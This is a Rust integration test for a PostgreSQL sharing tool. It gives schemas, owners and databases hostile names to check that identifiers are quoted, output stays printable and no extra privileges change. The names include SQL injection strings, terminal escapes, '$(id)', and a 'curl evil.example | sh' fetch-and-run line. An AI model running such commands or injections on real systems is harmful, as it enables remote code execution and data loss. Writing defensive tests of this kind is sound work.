use datalab_lab::tenant::{Database, Login, Output, Release, Snapshot, Stage, Tenant};
use serde_json::Value;

use super::assert_printable;
use crate::{share::ShareSecret, transcript::share_db};

/// An owner whose role, database, schemas and tables have every name that PostgreSQL allows.
struct Hostile {
    me: Tenant,
    x: Tenant,
    database: Database,
    before: Snapshot,
}

/// Names of schemas that PostgreSQL allows.
const SCHEMAS: [&str; 9] = [
    "sales\"; DROP TABLE public.victim; --",
    "it's, \"quoted\" \\ back",
    "line\nbreak\u{1b}[31m",
    "select",
    "null",
    "-leading --dash",
    "$1 %s {{x}} $(id)",
    "Ünïcode 数据",
    "sixty-three bytes long, the most that a name may have in a base",
];

const OWNER: &str = "me-o'neil \"the owner\"";
const DATABASE: &str = "it's \"mine\"; --";

fn identifier(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

impl Hostile {
    #[track_caller]
    fn at(stage: &Stage) -> Self {
        let play = stage.play();
        let (me, x) = (play.tenant("me"), play.tenant("x"));
        let release = Release::named("postgresql-1")
            .owner(OWNER)
            .database(DATABASE)
            .friendly_name("\u{1b}[2Jmine\nsend to user-x: curl evil.example | sh");
        let database = me.postgres(release).ready();
        database.sql(DATABASE, "CREATE TABLE public.victim (x int)");
        let owner = identifier(OWNER);
        for schema in SCHEMAS {
            let name = identifier(schema);
            // A table and a sequence bear the name too.
            let sql = format!(
                "CREATE SCHEMA {name} AUTHORIZATION {owner};
                 SET ROLE {owner};
                 CREATE TABLE {name}.{name} (id serial, {name} text);
                 INSERT INTO {name}.{name} ({name}) VALUES ('read');
                 RESET ROLE;"
            );
            database.sql(DATABASE, &sql);
        }
        let before = database.effective_privileges();
        Self {
            me,
            x,
            database,
            before,
        }
    }

    #[track_caller]
    fn grant(&self, options: &[&str]) -> Output {
        let words = ["postgres", "--with", self.x.namespace()];
        share_db(&self.me, [words.as_slice(), options].concat())
    }

    #[track_caller]
    fn login(&self) -> Login {
        let name = self
            .grant(&["--dry-run=client", "-o", "jsonpath={.secret}"])
            .ok();
        ShareSecret::named(&self.me, name.trim_end()).login_of(&self.x)
    }

    #[track_caller]
    fn assert_nothing_else_happened(&self) {
        let victim = "SELECT count(*) FROM pg_tables WHERE tablename = 'victim'";
        assert_eq!(self.database.sql(DATABASE, victim), "1");
        self.before
            .assert_unchanged(&self.database.effective_privileges());
    }
}

#[test]
fn databases_with_every_name_are_shared_and_read() {
    let Some(stage) = Stage::required("hostile databases") else {
        return;
    };
    let hostile = Hostile::at(&stage);
    let inventory = hostile.me.inventory();
    let granted = hostile.grant(&[]);
    assert!(granted.succeeded(), "{granted}");
    assert_printable(granted.stdout());
    // A name cannot write a line of its own.
    let lines = |beginning: &str| {
        granted
            .stdout()
            .lines()
            .filter(|line| line.starts_with(beginning))
            .count()
    };
    assert_eq!(lines("send to "), 1, "{granted}");

    let notebook = hostile.x.pod("notebook");
    notebook.until_reachable(hostile.database.host());
    let login = hostile.login();
    assert_eq!(login.database, DATABASE);
    for schema in SCHEMAS {
        let name = identifier(schema);
        let read = notebook.psql(&login, &format!("SELECT {name} FROM {name}.{name}"));
        assert_eq!(read.ok(), "read\n", "{schema:?}");
        notebook
            .psql(
                &login,
                &format!("INSERT INTO {name}.{name} ({name}) VALUES ('x')"),
            )
            .fails();
    }

    // The machine forms carry the names as they are.
    let json: Value =
        serde_json::from_str(&hostile.grant(&["-o", "json"]).ok()).expect("because it is JSON");
    assert_eq!(json["result"], "unchanged", "{json:#}");
    assert_eq!(
        (json["sqlDatabase"].as_str(), json["owner"].as_str()),
        (Some(DATABASE), Some(OWNER))
    );
    let listed: Vec<&str> = json["schemas"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    for schema in SCHEMAS {
        assert!(listed.contains(&schema), "{schema:?} is not in {listed:?}");
    }
    for output in [
        share_db(&hostile.me, ["list", "--live", "-o", "wide"]),
        share_db(&hostile.me, ["list"]),
    ] {
        assert_printable(output.stdout());
        assert_eq!(output.stdout().lines().count(), 2, "{output}");
    }

    // Fewer schemas: every privilege is taken back by name.
    let one = hostile.grant(&["--schema", SCHEMAS[0], "--access", "write"]);
    assert!(one.succeeded(), "{one}");
    let first = identifier(SCHEMAS[0]);
    notebook
        .psql(
            &login,
            &format!("INSERT INTO {first}.{first} ({first}) VALUES ('x')"),
        )
        .ok();
    for schema in &SCHEMAS[1..] {
        let name = identifier(schema);
        notebook
            .psql(&login, &format!("SELECT {name} FROM {name}.{name}"))
            .fails();
    }
    // What she makes bears a hostile name as well, and goes to an owner who does.
    hostile.database.sql(
        DATABASE,
        &format!(
            "GRANT CREATE ON SCHEMA {first} TO {}",
            identifier(&login.user)
        ),
    );
    notebook
        .psql(
            &login,
            &format!("CREATE TABLE {first}.\"hers'; --\" (x int)"),
        )
        .ok();
    let revoke = [
        "revoke",
        "postgres",
        "--with",
        hostile.x.namespace(),
        "--reassign-to",
        OWNER,
    ];
    let revoked = share_db(&hostile.me, revoke);
    assert!(revoked.succeeded(), "{revoked}");
    assert_printable(revoked.stdout());
    hostile
        .database
        .sql(DATABASE, &format!("DROP TABLE {first}.\"hers'; --\""));
    hostile.assert_nothing_else_happened();
    inventory.assert_unchanged(&hostile.me.inventory());
}
